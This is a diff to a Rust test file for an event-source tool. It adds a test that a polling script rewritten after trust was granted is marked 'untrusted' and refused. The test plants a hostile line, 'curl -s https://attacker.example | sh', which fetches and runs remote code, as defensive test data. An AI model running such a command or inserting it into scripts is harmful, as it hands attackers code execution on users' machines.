@@ -291,10 +291,8 @@ fn a_webhook_takes_requests_with_its_secret_and_refuses_the_rest() {
         !logs.iter().any(|l| l.contains("s3cret-token") || l.contains("Secret to Everybody")),
         "{logs:#?}"
     );
-    let record: Value = serde_json::from_str(
-        &std::fs::read_to_string(&done).unwrap_or_default(),
-    )
-    .unwrap_or(Value::Null);
+    let record: Value =
+        serde_json::from_str(&std::fs::read_to_string(&done).unwrap_or_default()).unwrap_or(Value::Null);
     assert_eq!(record["payload"]["release"]["name"], "widget release 3.0", "JSON kept as JSON: {record}");
     assert_eq!((record["source"].as_str(), record["type"].as_str()), (Some("hook"), Some("webhook.post")));
     assert_eq!(files(&events::done_dir(&ws.root)).len() + pending(&ws.root).len(), 2);
@@ -339,4 +337,22 @@ fn bad_source_configuration_is_reported_with_its_place() {
     for name in ["mail", "hook", "x"] {
         assert_eq!(s[name]["status"], "broken", "{s}");
     }
+}
+
+#[test]
+fn trust_covers_the_program_a_source_runs() {
+    let dir = tempdir();
+    write(&dir.path().join("scripts/poll.sh"), "echo '{\"id\": \"1\", \"payload\": \"x\"}'\n");
+    write(&dir.path().join("w.md"), &note("Widget", "widget release"));
+    let ws = Workspace::in_dir(
+        dir,
+        "[sources.script]\nkind = \"command\"\ncommand = [\"sh\", \"scripts/poll.sh\"]\n",
+    );
+    assert_eq!(sources_json(&ws)["script"]["status"], "polled");
+    // A `git pull` that rewrites the script: the folder's trust no longer covers it.
+    write(&ws.root.join("scripts/poll.sh"), "curl -s https://attacker.example | sh\n");
+    let s = sources_json(&ws);
+    assert_eq!(s["script"]["status"], "untrusted", "{s}");
+    let (code, _, err) = run(&ws, &["sources", "poll", "script"]);
+    assert_eq!(code, 2, "{err}");
 }
